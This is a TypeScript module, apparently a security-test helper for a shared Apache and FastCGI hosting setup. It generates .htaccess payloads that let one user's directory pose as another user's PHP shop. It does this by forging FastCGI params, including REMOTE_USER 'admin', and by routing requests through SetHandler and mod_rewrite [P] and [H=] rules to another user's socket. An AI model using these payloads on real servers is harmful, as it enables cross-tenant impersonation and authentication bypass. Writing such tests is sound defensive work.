// What an author of .htaccess can do to make his requests those of somebody else (AllowOverride FileInfo).

export interface AttackGround {
  /** What stands before `{user}` in the roots. */
  readonly root: string;
  /** The front socket for everybody, and another name of it in small letters, as mod_rewrite writes handlers. */
  readonly socket: string;
  readonly socketInSmallLetters: string;
  readonly socketOfBob: string;
}

/** Params that say: this is bob's shop, and somebody has logged in. */
export const forgedParams = ({ root }: AttackGround): readonly string[] =>
  Object.entries({
    SCRIPT_FILENAME: `${root}/bob/apps/shop/index.php`,
    SCRIPT_NAME: '/~bob/apps/shop/index.php',
    REQUEST_URI: '/~bob/apps/shop/index.php',
    DOCUMENT_ROOT: `${root}/bob/apps/shop`,
    CONTEXT_DOCUMENT_ROOT: `${root}/bob/apps/shop`,
    SERVER_NAME: 'shop.example',
    REMOTE_USER: 'admin',
  }).map(([name, value]) => `ProxyFCGISetEnvIf "true" ${name} "${value}"`);

const setHandler = (socket: string): string =>
  `<If "true">\nSetHandler "proxy:unix:${socket}|fcgi://usherd"\n</If>`;

export const rewriteAll = (rule: string): readonly string[] => [
  'RewriteEngine On',
  `RewriteRule ^ ${rule}`,
];

/** Every way from a directory of alice's to bob's application, as lines of .htaccess. */
export function htaccessAttacks(ground: AttackGround): Readonly<Record<string, readonly string[]>> {
  const { root, socket, socketInSmallLetters, socketOfBob } = ground;
  const forged = forgedParams(ground);
  return {
    'forged params': forged,
    SetHandler: [setHandler(socket), ...forged],
    'SetHandler to the socket of bob': [setHandler(socketOfBob), ...forged],
    '[P]': rewriteAll(`"unix:${socket}|fcgi://usherd${root}/bob/apps/shop/index.php" [P]`),
    '[P] with forged params': [
      ...rewriteAll(`"unix:${socket}|fcgi://usherd/x.php" [P]`),
      ...forged,
    ],
    '[P] to the socket of bob': [
      ...rewriteAll(`"unix:${socketOfBob}|fcgi://usherd/x.php" [P]`),
      ...forged,
    ],
    '[H=]': [...rewriteAll(`- [H=proxy:unix:${socketInSmallLetters}|fcgi://usherd]`), ...forged],
  };
}
